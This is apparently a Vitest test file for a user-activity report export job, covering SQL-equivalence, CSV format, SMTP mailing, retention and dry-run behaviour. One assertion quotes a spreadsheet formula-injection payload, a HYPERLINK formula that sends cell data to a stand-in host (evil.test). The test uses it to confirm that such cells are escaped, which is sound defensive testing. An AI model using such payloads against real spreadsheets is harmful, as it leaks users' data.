import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ConfigObject } from '../../src/config/config.js';
import {
  exportReportJob,
  type ExportReportOptions,
  type ExportReportResult,
} from '../../src/jobs/export-report/index.js';
import { createMailer, type Mailer } from '../../src/notify/mailer.js';
import { ManualClock } from '../../src/util/clock.js';
import { parseCsv } from '../support/csv-parse.js';
import { ENGINES, tempDir, type TestDatabase } from '../support/databases.js';
import { testEnvironment } from '../support/environment.js';
import { runTestJob } from '../support/run-job.js';
import { leafParts, parseMime } from '../support/mime.js';
import { startSmtpSink, type SmtpSink } from '../support/smtp-sink.js';
import { buildFixture, FROM_TS, HOSTILE, NOW, TO_TS } from './fixture.js';

const ADMINS = ['ops@example.test', 'cto@example.test', 'audit@example.test'];

interface JsonSection {
  id: string;
  title: string;
  available: boolean;
  reason?: string;
  rows: Record<string, unknown>[];
}

type Plain = Record<string, unknown>[];

/** The sections as plain, independently written SQL (join first, then group), in report order. */
async function plainSql(t: TestDatabase, fromTs: string, toTs: string): Promise<Record<string, Plain>> {
  const db = t.db;
  const q = (sql: string, params: unknown[] = [fromTs, toTs]) => db.query<Record<string, unknown>>(sql, params);
  const one = async (sql: string, params?: unknown[]) => Number(Object.values((await q(sql, params))[0] ?? {})[0] ?? 0);
  const summary = [
    { metric: 'Total Users', value: await one('SELECT COUNT(*) FROM users', []) },
    {
      metric: 'Active Users',
      value: await one('SELECT COUNT(*) FROM users WHERE last_activity_at >= ? AND last_activity_at < ?'),
    },
    { metric: 'New Users', value: await one('SELECT COUNT(*) FROM users WHERE created_at >= ? AND created_at < ?') },
    {
      metric: 'Total Activities',
      value: await one('SELECT COUNT(*) FROM user_activities WHERE created_at >= ? AND created_at < ?'),
    },
    {
      metric: 'Unique Active Users',
      value: await one('SELECT COUNT(DISTINCT user_id) FROM user_activities WHERE created_at >= ? AND created_at < ?'),
    },
    {
      metric: 'Total Logins',
      value: await one(
        "SELECT COUNT(*) FROM user_activities WHERE activity_type = 'login' AND created_at >= ? AND created_at < ?",
      ),
    },
    {
      metric: 'Failed Logins',
      value: await one(
        "SELECT COUNT(*) FROM user_activities WHERE activity_type = 'login_failed' AND created_at >= ? AND created_at < ?",
      ),
    },
  ];
  const topUsers = await q(
    `SELECT ua.user_id AS id, u.username AS username, u.email AS email, COUNT(*) AS activity_count
       FROM user_activities ua LEFT JOIN users u ON u.id = ua.user_id
      WHERE ua.created_at >= ? AND ua.created_at < ?
      GROUP BY ua.user_id, u.username, u.email ORDER BY COUNT(*) DESC, ua.user_id ASC LIMIT 10`,
  );
  const titles = (table: string, type: string) =>
    q(
      `SELECT ua.subject_id AS id, t.title AS title, t.year AS year, t.rating AS rating, COUNT(*) AS views
         FROM user_activities ua LEFT JOIN ${table} t ON t.id = ua.subject_id
        WHERE ua.activity_type = '${type}' AND ua.subject_id IS NOT NULL AND ua.created_at >= ? AND ua.created_at < ?
        GROUP BY ua.subject_id, t.title, t.year, t.rating ORDER BY COUNT(*) DESC, ua.subject_id ASC LIMIT 10`,
    );
  const searches = await q(
    `SELECT search_term, COUNT(*) AS search_count FROM user_activities
      WHERE activity_type = 'search' AND search_term IS NOT NULL AND search_term <> '' AND created_at >= ? AND created_at < ?
      GROUP BY search_term ORDER BY COUNT(*) DESC, search_term ASC LIMIT 20`,
  );
  const byType = await q(
    `SELECT activity_type, COUNT(*) AS count FROM user_activities WHERE created_at >= ? AND created_at < ? GROUP BY activity_type ORDER BY COUNT(*) DESC, activity_type ASC`,
  );
  const ips = await q(
    `SELECT ip_address, COUNT(*) AS failed_attempts FROM user_activities
      WHERE activity_type = 'login_failed' AND ip_address IS NOT NULL AND created_at >= ? AND created_at < ?
      GROUP BY ip_address HAVING COUNT(*) >= 5 ORDER BY COUNT(*) DESC, ip_address ASC`,
  );
  const numeric = (rows: Plain, keys: string[]) =>
    rows.map((r) => ({ ...r, ...Object.fromEntries(keys.map((k) => [k, r[k] === null ? null : Number(r[k])])) }));
  return {
    summary,
    top_users: numeric(topUsers, ['id', 'activity_count']),
    top_movies: numeric(await titles('movies', 'watch_movie'), ['id', 'year', 'rating', 'views']),
    top_series: numeric(await titles('series', 'watch_series'), ['id', 'year', 'rating', 'views']),
    top_search_terms: numeric(searches, ['search_count']),
    activity_by_type: numeric(byType, ['count']),
    suspicious_ips: numeric(ips, ['failed_attempts']),
  };
}

/** Rows sorted by `count` desc, then `key` asc (as the engine orders `key`), with a tie somewhere. */
function expectTieOrdered(rows: Record<string, unknown>[], count: string, key: string) {
  for (let i = 1; i < rows.length; i++) {
    const a = rows[i - 1] as Record<string, number>;
    const b = rows[i] as Record<string, number>;
    expect(a[count]).toBeGreaterThanOrEqual(b[count] as number);
    if (a[count] === b[count] && typeof a[key] === 'number') expect(a[key]).toBeLessThan(b[key] as number);
  }
  expect(rows.some((r, i) => i > 0 && r[count] === rows[i - 1]?.[count])).toBe(true);
}

describe.each(ENGINES)('export-report on $engine', ({ create }) => {
  let t: TestDatabase;
  let work: string;
  let sink: SmtpSink;

  beforeAll(async () => {
    t = await create();
    await buildFixture(t.db);
    work = tempDir('webjobs-report-');
    sink = await startSmtpSink();
  });
  afterAll(async () => {
    await sink?.close();
    await t?.cleanup();
    fs.rmSync(work, { recursive: true, force: true });
  });

  async function report(
    options: Partial<ExportReportOptions> = {},
    extra: { config?: ConfigObject; mailer?: Mailer; dryRun?: boolean; db?: TestDatabase; dir?: string } = {},
  ) {
    const dir = extra.dir ?? fs.mkdtempSync(path.join(work, 'r-'));
    const env = testEnvironment({
      db: (extra.db ?? t).db,
      url: (extra.db ?? t).url,
      clock: new ManualClock(NOW),
      config: { report: { dir }, ...extra.config },
      mailer: extra.mailer ?? createMailer({ url: sink.url, admins: ADMINS, retryDelaysMs: [0, 0] }),
    });
    const { summary } = await runTestJob(
      exportReportJob,
      { period: 'weekly', format: 'csv', email: true, ...options },
      env,
      { dryRun: Boolean(extra.dryRun) },
    );
    return {
      summary,
      result: summary.result as ExportReportResult,
      logs: env.logs(),
      dir: path.join(dir, 'user_activity'),
    };
  }

  it('mails every admin exactly one message: the subject, the CSV attached byte for byte, the summary in the HTML part', async () => {
    const before = sink.messages.length;
    const { summary, result } = await report();
    expect(summary.status).toBe('succeeded');
    expect(summary.warnings).toEqual([]);
    expect(result.file).toBe(
      path.join(path.dirname(result.file as string), 'user_activity_report_weekly_2026-11-18_to_2026-11-25.csv'),
    );
    expect(result.mail.sent).toEqual(ADMINS);
    const mails = sink.messages.slice(before);
    expect(mails.map((m) => m.to)).toEqual(ADMINS.map((a) => [a]));
    const fileBytes = fs.readFileSync(result.file as string);
    for (const m of mails) {
      const mime = parseMime(m.raw);
      expect(mime.headers.get('subject')).toBe('User Activity Report - Weekly');
      expect(mime.headers.get('to')).toBe(m.to[0]);
      const parts = leafParts(mime);
      const attachment = parts.find((p) => p.filename);
      expect(attachment?.filename).toBe('user_activity_report_weekly_2026-11-18_to_2026-11-25.csv');
      expect(attachment?.contentType).toBe('text/csv');
      expect(Buffer.compare(attachment?.body ?? Buffer.alloc(0), fileBytes)).toBe(0);
      const text = parts.find((p) => p.contentType === 'text/plain' && !p.filename)?.body.toString('utf8') ?? '';
      expect(text).toContain('Period: 2026-11-18 to 2026-11-25');
      expect(text).toContain('Please find the detailed report attached.');
      const html = parts.find((p) => p.contentType === 'text/html')?.body.toString('utf8') ?? '';
      const plain = await plainSql(t, FROM_TS, TO_TS);
      for (const s of plain.summary ?? []) expect(html).toMatch(new RegExp(`${s.metric}</td><td[^>]*>${s.value}</td>`));
      expect(html).toContain('Top 10 Active Users');
      expect(html).toContain('Suspicious IP Addresses');
      // Hostile text is escaped in the HTML, never markup.
      expect(html).not.toContain('"http://evil.test');
      expect(html).toContain('=HYPERLINK(&quot;http://evil.test/?x=&quot;&amp;A1,&quot;click&quot;)');
    }
  });

  it('computes each section equal to plain SQL over the fixture, ties broken by count desc then id/key asc', async () => {
    const { result } = await report({ format: 'json', email: false });
    expect(result.file).toMatch(/user_activity_report_weekly_2026-11-18_to_2026-11-25\.json$/);
    const doc = JSON.parse(fs.readFileSync(result.file as string, 'utf8')) as {
      sections: JsonSection[];
      from: string;
      to: string;
    };
    expect([doc.from, doc.to]).toEqual(['2026-11-18', '2026-11-25']);
    const plain = await plainSql(t, FROM_TS, TO_TS);
    expect(doc.sections.map((s) => s.id)).toEqual(Object.keys(plain));
    for (const s of doc.sections) {
      expect(s.available).toBe(true);
      expect({ id: s.id, rows: s.rows }).toEqual({ id: s.id, rows: plain[s.id] });
    }
    const byId = Object.fromEntries(doc.sections.map((s) => [s.id, s.rows]));
    // The fixture's ties cross every cut, and rows outside the period (user 20) never count.
    expect(byId.top_users).toHaveLength(10);
    expect(byId.top_users?.map((r) => r.id)).not.toContain(20);
    expectTieOrdered(byId.top_users ?? [], 'activity_count', 'id');
    expect(byId.top_movies?.map((r) => r.id)).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 99]);
    expect(byId.top_movies?.find((r) => r.id === 99)).toMatchObject({ title: null, views: 2 });
    expect(byId.top_movies?.find((r) => r.id === 2)).toMatchObject({ rating: -5 });
    expectTieOrdered(byId.top_movies ?? [], 'views', 'id');
    expect(byId.top_series?.map((r) => [r.id, r.views])).toEqual([
      [1, 3],
      [2, 3],
      [3, 1],
    ]);
    expect(byId.top_search_terms).toHaveLength(20);
    expect(byId.top_search_terms?.map((r) => r.search_term)).not.toContain('');
    expect(byId.top_search_terms?.map((r) => r.search_term)).not.toContain('outside');
    expect(byId.suspicious_ips?.map((r) => r.failed_attempts)).toEqual([6, 5, 5, 5]);
    expect(byId.suspicious_ips?.map((r) => r.ip_address)).not.toContain('198.51.100.200');
    expect(byId.summary?.find((r) => r.metric === 'New Users')?.value).toBeGreaterThan(0);
  });

  it('reports an empty period as zeros and empty lists, still equal to plain SQL', async () => {
    const { summary, result } = await report({ format: 'json', email: false, end: '2020-01-08' });
    expect(summary.status).toBe('succeeded');
    expect([result.from, result.to]).toEqual(['2020-01-01', '2020-01-08']);
    const doc = JSON.parse(fs.readFileSync(result.file as string, 'utf8')) as { sections: JsonSection[] };
    const plain = await plainSql(t, '2020-01-01 00:00:00', '2020-01-08 00:00:00');
    for (const s of doc.sections) expect(s.rows).toEqual(plain[s.id]);
    expect(doc.sections[0]?.rows).toEqual([
      { metric: 'Total Users', value: 32 },
      { metric: 'Active Users', value: 0 },
      { metric: 'New Users', value: 0 },
      { metric: 'Total Activities', value: 0 },
      { metric: 'Unique Active Users', value: 0 },
      { metric: 'Total Logins', value: 0 },
      { metric: 'Failed Logins', value: 0 },
    ]);
    expect(doc.sections.slice(1).every((s) => s.rows.length === 0)).toBe(true);
  });

  it('writes RFC 4180 CSV with a BOM, mode 0600; formula-like text gets an apostrophe, numbers stay numbers', async () => {
    const { result } = await report({ email: false });
    const file = result.file as string;
    expect(fs.statSync(file).mode & 0o777).toBe(0o600);
    const bytes = fs.readFileSync(file);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8').slice(1);
    expect(text.replace(/"[^"]*"/g, '').replace(/\r\n/g, '')).not.toMatch(/[\r\n]/); // every line break outside quotes is CRLF
    const records = parseCsv(text);
    const cells = records.flat();
    // Every hostile cell is neutralized; no cell starts with a formula character except by being a number.
    expect(cells).toContain(`'${HOSTILE.hyperlink}`);
    expect(cells).toContain(`'${HOSTILE.plus}`);
    expect(cells).toContain(`'${HOSTILE.at}`);
    expect(cells).toContain(`'${HOSTILE.tab}`);
    expect(cells).toContain(`'${HOSTILE.cr}`);
    expect(cells).toContain(`'${HOSTILE.minusText}`);
    expect(cells).toContain('+1@example.test'.replace(/^/, "'"));
    expect(cells).toContain(HOSTILE.quoted);
    expect(cells).toContain(HOSTILE.multiline);
    expect(cells).toContain(HOSTILE.unicode);
    for (const c of cells) if (/^[=+\-@\t\r]/.test(c)) expect(c).toMatch(/^-\d+(\.\d+)?$/);
    // The movie rated -5 keeps -5 as a number.
    const movieTitle = records.findIndex((r) => r[0] === 'Top 10 Watched Movies');
    const movie2 = records.slice(movieTitle).find((r) => r[0] === '2');
    expect(movie2).toEqual(['2', 'Movie 2', '2002', '-5', '4']);
    // Layout: title row, header row, rows, blank line — per section.
    const summaryAt = records.findIndex((r) => r[0] === 'Summary Metrics');
    expect(records[summaryAt + 1]).toEqual(['Metric', 'Value']);
    expect(records[summaryAt + 9]).toEqual([]);
    expect(records.filter((r) => r.length === 0).length).toBeGreaterThanOrEqual(8);
    // The CSV holds the same rows as the JSON document.
    const json = await report({ format: 'json', email: false });
    const doc = JSON.parse(fs.readFileSync(json.result.file as string, 'utf8')) as {
      sections: (JsonSection & { columns: { key: string }[] })[];
    };
    for (const s of doc.sections) {
      const start = records.findIndex((r) => r[0] === s.title);
      const body = records.slice(start + 2, start + 2 + s.rows.length);
      expect(body).toEqual(s.rows.map((row) => s.columns.map((c) => csvCell(row[c.key]))));
    }
  });

  it('a recipient the SMTP server refuses is a warning: the others are mailed and the file stays', async () => {
    const refusing = await startSmtpSink({ refuse: ['cto@example.test'] });
    try {
      const { summary, result } = await report(
        {},
        { mailer: createMailer({ url: refusing.url, admins: ADMINS, retryDelaysMs: [0, 0] }) },
      );
      expect(summary.status).toBe('succeeded');
      expect(summary.exitCode).toBe(0);
      expect(result.mail.sent).toEqual(['ops@example.test', 'audit@example.test']);
      expect(result.mail.failed).toEqual([expect.objectContaining({ to: 'cto@example.test', attempts: 1 })]);
      expect(summary.warnings.join('\n')).toMatch(/mail to cto@example.test failed/);
      expect(refusing.messages.map((m) => m.to)).toEqual([['ops@example.test'], ['audit@example.test']]);
      expect(refusing.rcptAttempts.get('cto@example.test')).toBe(1); // 550 is final: no retry
      expect(fs.existsSync(result.file as string)).toBe(true);
    } finally {
      await refusing.close();
    }
  });

  it('retries a transient SMTP refusal (451) with the configured backoff, then delivers', async () => {
    const flaky = await startSmtpSink({ transient: { 'ops@example.test': 2 } });
    const waits: number[] = [];
    try {
      const mailer = createMailer({
        url: flaky.url,
        admins: ['ops@example.test'],
        retryDelaysMs: [10, 20, 40],
        sleep: async (ms) => void waits.push(ms),
      });
      const { summary, result, logs } = await report({}, { mailer });
      expect(summary.status).toBe('succeeded');
      expect(result.mail.sent).toEqual(['ops@example.test']);
      expect(waits).toEqual([10, 20]);
      expect(flaky.rcptAttempts.get('ops@example.test')).toBe(3);
      expect(flaky.messages).toHaveLength(1);
      expect(logs).toMatch(/mail to ops@example.test failed .*451.*try 2/);
    } finally {
      await flaky.close();
    }
  });

  it('a missing movies table marks that section unavailable; the rest of the report is made and mailed', async () => {
    const other = await create();
    try {
      await buildFixture(other.db);
      await other.db.execute('DROP TABLE movies');
      const before = sink.messages.length;
      const { summary, result } = await report({}, { db: other });
      expect(summary.status).toBe('succeeded');
      const movies = result.sections.find((s) => s.id === 'top_movies');
      expect(movies).toMatchObject({ available: false, reason: 'table movies does not exist' });
      expect(result.sections.filter((s) => s.available)).toHaveLength(6);
      expect(summary.warnings.join('\n')).toMatch(/Top 10 Watched Movies.*unavailable: table movies does not exist/);
      const records = parseCsv(fs.readFileSync(result.file as string, 'utf8').slice(1));
      const at = records.findIndex((r) => r[0] === 'Top 10 Watched Movies');
      expect(records[at + 1]).toEqual(['Unavailable: table movies does not exist']);
      expect(records[at + 2]).toEqual([]);
      expect(records[at + 3]).toEqual(['Top 10 Watched Series']);
      expect(sink.messages.length - before).toBe(ADMINS.length);
      const html = leafParts(parseMime(sink.messages[before]?.raw ?? ''))
        .find((p) => p.contentType === 'text/html')
        ?.body.toString('utf8');
      expect(html).toContain('Unavailable: table movies does not exist');
    } finally {
      await other.cleanup();
    }
  });

  it('retention removes only webjobs report files older than report.retentionDays', async () => {
    const dir = fs.mkdtempSync(path.join(work, 'keep-'));
    const reports = path.join(dir, 'user_activity');
    fs.mkdirSync(reports, { recursive: true });
    const old = new Date(Date.parse(NOW) - 40 * 86_400_000);
    const recent = new Date(Date.parse(NOW) - 5 * 86_400_000);
    const files: Record<string, Date> = {
      'user_activity_report_weekly_2026-10-09_to_2026-10-16.csv': old,
      'user_activity_report_daily_2026-10-15_to_2026-10-16.json': old,
      'user_activity_report_weekly_2026-11-13_to_2026-11-20.csv': recent,
      'notes.csv': old,
      'user_activity_report_weekly_2026-10-09_to_2026-10-16.csv.bak': old,
    };
    for (const [name, mtime] of Object.entries(files)) {
      fs.writeFileSync(path.join(reports, name), 'x');
      fs.utimesSync(path.join(reports, name), mtime, mtime);
    }
    const { result } = await report({ email: false }, { dir, config: { report: { dir, retentionDays: 30 } } });
    expect(result.retention.deleted.sort()).toEqual([
      'user_activity_report_daily_2026-10-15_to_2026-10-16.json',
      'user_activity_report_weekly_2026-10-09_to_2026-10-16.csv',
    ]);
    expect(fs.readdirSync(reports).sort()).toEqual(
      [
        'notes.csv',
        'user_activity_report_weekly_2026-10-09_to_2026-10-16.csv.bak',
        'user_activity_report_weekly_2026-11-13_to_2026-11-20.csv',
        'user_activity_report_weekly_2026-11-18_to_2026-11-25.csv',
      ].sort(),
    );
  });

  it('--dry-run reports the period, each section’s row count and the recipients; writes and sends nothing', async () => {
    const before = sink.messages.length;
    const dir = fs.mkdtempSync(path.join(work, 'dry-'));
    const { summary, result, logs } = await report({ period: 'monthly' }, { dryRun: true, dir });
    expect(summary.status).toBe('dry-run');
    expect([result.from, result.to]).toEqual(['2026-10-26', '2026-11-25']);
    expect(result.recipients).toEqual(ADMINS);
    expect(result.sections.map((s) => s.rows)).toEqual([7, 10, 10, 3, 20, 6, 5]);
    expect(logs).toMatch(/would report Top 20 Search Terms: 20 row\(s\)/);
    expect(logs).toMatch(/would mail ops@example.test, cto@example.test, audit@example.test/);
    expect(fs.readdirSync(dir)).toEqual([]);
    expect(sink.messages.length).toBe(before);
  });

  it('--to overrides the admins; --no-email writes the file only; daily covers exactly the day before', async () => {
    const before = sink.messages.length;
    const to = await report({ to: ['someone@example.test'], period: 'daily' });
    expect([to.result.from, to.result.to]).toEqual(['2026-11-24', '2026-11-25']);
    expect(sink.messages.slice(before).map((m) => m.to)).toEqual([['someone@example.test']]);
    expect(parseMime(sink.messages[before]?.raw ?? '').headers.get('subject')).toBe('User Activity Report - Daily');
    const none = await report({ email: false });
    expect(none.result.mail).toEqual({ sent: [], failed: [], skipped: '--no-email' });
    expect(sink.messages.length).toBe(before + 1);
    expect(fs.existsSync(none.result.file as string)).toBe(true);
  });
});

function csvCell(v: unknown): string {
  if (v === null || v === undefined) return '';
  if (typeof v === 'number') return String(v);
  const s = String(v);
  return /^[=+\-@\t\r]/.test(s) ? `'${s}` : s;
}
